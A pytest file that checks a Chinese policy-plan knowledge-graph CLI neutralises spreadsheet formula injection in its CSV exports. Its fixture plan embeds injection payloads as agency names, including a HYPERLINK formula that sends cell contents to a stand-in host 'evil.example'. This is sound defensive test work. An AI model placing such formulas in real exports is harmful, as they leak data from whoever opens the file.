"""A spreadsheet never runs what a plan says (issue 23, item 6).

An agency or a heading written ``=1+2局``, ``=HYPERLINK(…)``, ``+…``, ``-…`` or ``@SUM(…)`` went raw into every
``--format csv`` answer, ``kg export --format csv`` and the neo4j-import CSVs, where Excel runs it. Now every
CSV cell that begins with ``=``, ``+``, ``-``, ``@``, TAB, CR or NUL has a single quote in front (OWASP, "CSV
Injection"; kg.neutralise), except a plain number (-3); a cell that begins with a quote gets one more, so the
guard comes off exactly (neo4j-import does that in Neo4j). JSON and RDF keep the value exact.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from reliability_kit import FUZZ, SEED_DIR, record

from kg.cli import cli
from kg.neutralise import FORMULA_STARTS, spreadsheet_cell

# A plan with no place: its names stay as written (in a placed plan 市公安局 and =1+2局 alike take the place in
# front, 呼和浩特市=1+2局, and only their asWritten column starts with the formula character).
FORMULA_PLAN = """平安建设实施方案
一、主要任务
（一）加强巡逻防控。每天巡逻。（责任单位：=1+2局、市公安局）
（二）+加强宣传。（牵头单位：@SUM(1)局；配合单位：-3局、+HYPERLINK局）
（三）-2+3整治。（责任单位：\t=tab局、市司法局）
（四）@整治。（责任单位：'=quoted局、=HYPERLINK("http://evil.example/?"&A1,"点击")局）
"""
FORMULA_AGENCIES = ["=1+2局", "@SUM(1)局", "-3局", "+HYPERLINK局", "=tab局", "'=quoted局",
                    '=HYPERLINK("http://evil.example/?"&A1,"点击")局']
FORMULA_HEADINGS = ["+加强宣传", "-2+3整治", "@整治"]
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def dangerous(cell: str) -> bool:
    """What a spreadsheet would take for a formula (or a hidden one)."""
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def unguarded(cell: str) -> str:
    """The value a guarded cell stands for: one leading quote off."""
    return cell[1:] if cell.startswith("'") else cell


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("formula")
    (root / "formula.txt").write_text(FORMULA_PLAN, encoding="utf-8")
    store = root / "store"
    result = CliRunner().invoke(cli, ["build", str(root / "formula.txt"), str(SEED_DIR / "000_e915c20add5d7ca5.txt"),
                                      "--store", str(store)])
    assert result.exit_code == 0, result.output
    return store


def run(store: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, [*args, "--store", str(store)])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_the_plan_really_names_formula_agencies(store: Path) -> None:
    names = [r["name"] for r in json.loads(run(store, "agencies", "--format", "json"))["rows"]]
    for written in FORMULA_AGENCIES:
        assert written.strip() in names or any(n.endswith(written) for n in names), (written, names)
    record("formula injection", "agency names =1+2局, @SUM(1)局, -3局, +…, =HYPERLINK(…), '=…, TAB=… in a plan",
           "kg agencies --format json: every name exact")


def test_every_csv_answer_guards_formula_cells(store: Path) -> None:
    answers = {
        "kg agencies": ["agencies", "--format", "csv"],
        "kg measures --agency =1+2局": ["measures", "--agency", "=1+2局", "--format", "csv"],
        "kg overlap --top": ["overlap", "--top", "50", "--format", "csv"],
        "kg sparql (headings)": ["sparql", "SELECT ?h WHERE { ?m pa:heading ?h }", "--format", "csv"],
        "kg agency =1+2局": ["agency", "=1+2局", "--format", "csv"],
    }
    for label, args in answers.items():
        table = cells(run(store, *args))
        flat = [c for row in table for c in row]
        assert not [c for c in flat if dangerous(c)], (label, [c for c in flat if dangerous(c)])
        record("formula injection", f"{label} --format csv", "no cell a spreadsheet runs")
    agencies = cells(run(store, "agencies", "--format", "csv"))
    names = [row[0] for row in agencies[1:]]
    assert "'=1+2局" in names and "'@SUM(1)局" in names and "'-3局" in names and "'+HYPERLINK局" in names
    assert "''=quoted局" in names  # a quote in front of one already there: the guard comes off exactly
    assert any(n.startswith("'\t=tab局") or n == "'=tab局" for n in names), names
    assert all(row[2].isdigit() for row in agencies[1:])  # counts stay numbers
    headings = [row[0] for row in cells(run(store, "sparql", "SELECT ?h WHERE { ?m pa:heading ?h }",
                                            "--format", "csv"))[1:]]
    assert {"'" + h for h in FORMULA_HEADINGS} <= set(headings), headings


def test_json_and_rdf_keep_the_value_exact(store: Path) -> None:
    names = [r["name"] for r in json.loads(run(store, "agencies", "--format", "json"))["rows"]]
    assert "=1+2局" in names and "'=quoted局" in names
    nt = run(store, "export", "--format", "nt")
    assert '"=1+2局"' in nt and '"@SUM(1)局"' in nt and '"+加强宣传"' in nt
    record("formula injection", "kg agencies --format json, kg export --format nt", "values exact, no quote added")


def test_kg_export_csv_guards_every_cell(store: Path, tmp_path: Path) -> None:
    run(store, "export", "--format", "csv", "-o", str(tmp_path / "csv"))
    for name in ("nodes.csv", "edges.csv"):
        table = cells((tmp_path / "csv" / name).read_text(encoding="utf-8-sig"))
        flat = [c for row in table for c in row]
        assert not [c for c in flat if dangerous(c)], (name, [c for c in flat if dangerous(c)])
    nodes = cells((tmp_path / "csv" / "nodes.csv").read_text(encoding="utf-8-sig"))
    label = nodes[0].index("prefLabel")
    assert "'=1+2局" in [row[label] for row in nodes[1:]]
    record("formula injection", "kg export --format csv (nodes.csv, edges.csv)", "no cell a spreadsheet runs")


def test_neo4j_import_guards_strings_keeps_numbers_and_takes_the_guard_off_in_neo4j(store: Path,
                                                                                   tmp_path: Path) -> None:
    from kg.neo4j_io import plan_graph, write_admin_import
    from kg.projection import Edge, Node, PropertyGraph

    folder = tmp_path / "import"
    run(store, "export", "--format", "neo4j-import", "-o", str(folder))
    for path in sorted(folder.glob("*.csv")):
        table = cells(path.read_text(encoding="utf-8-sig"))
        flat = [c for row in table[1:] for c in row]
        assert not [c for c in flat if dangerous(c)], (path.name, [c for c in flat if dangerous(c)])
    restore = (folder / "constraints.cypher").read_text(encoding="utf-8")
    assert "MATCH (n:`Agency`) WHERE n.prefLabel STARTS WITH '\\'' SET n.prefLabel = substring(n.prefLabel, 1)" \
        in restore
    record("formula injection", "kg export --format neo4j-import", "no cell a spreadsheet runs; constraints.cypher "
           "takes the guard off in Neo4j")

    # a negative number in a typed column stays a number neo4j-admin reads; strings come back exact
    graph = PropertyGraph()
    agency = "https://w3id.org/pingan-kg/id/agency/f"
    measure = "https://w3id.org/pingan-kg/id/measure/m"
    graph.nodes[agency] = Node(agency, ["Agency"], {"prefLabel": "=1+2局", "altLabel": ["@SUM(1)局", "'x", "y"],
                                                    "line": -3, "value": -2.5})
    graph.nodes[measure] = Node(measure, ["Measure"], {"text": "-3", "heading": "-3局"})
    graph.edges.append(Edge(agency, "LEADS", measure, {"quote": "+HYPERLINK(1)", "line": -1}))
    write_admin_import(plan_graph(graph), tmp_path / "typed")
    header, row = cells((tmp_path / "typed" / "nodes_Agency.csv").read_text(encoding="utf-8-sig"))
    by = dict(zip(header, row, strict=True))
    assert by["line:long"] == "-3" and by["value:double"] == "-2.5"
    assert by["prefLabel:string"] == "'=1+2局"
    assert [unguarded(x) for x in by["altLabel:string[]"].split(";")] == ["@SUM(1)局", "'x", "y"]
    header, row = cells((tmp_path / "typed" / "nodes_Measure.csv").read_text(encoding="utf-8-sig"))
    by = dict(zip(header, row, strict=True))
    assert by["text:string"] == "-3" and by["heading:string"] == "'-3局"  # a plain number is not a formula
    header, row = cells((tmp_path / "typed" / "relationships_LEADS.csv").read_text(encoding="utf-8-sig"))
    by = dict(zip(header, row, strict=True))
    assert by["line:long"] == "-1" and unguarded(by["quote:string"]) == "+HYPERLINK(1)"
    record("formula injection", "neo4j-import: -3 in a :long, -2.5 in a :double, lists", "numbers kept, strings "
           "guarded and restorable")


@FUZZ
@given(st.one_of(st.text(max_size=30), st.text(alphabet=st.sampled_from("=+-@'\t\r\x00.e0123456789x局 "),
                                                max_size=12)))
def test_a_guarded_cell_is_never_a_formula_and_comes_back_exactly(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not dangerous(cell)
    assert cell in (text, "'" + text)
    assert unguarded(cell) == text
    if text.startswith("'") or dangerous(text):
        assert cell == "'" + text
    record("formula injection", "any text → spreadsheet_cell", "not a formula; exactly restorable")
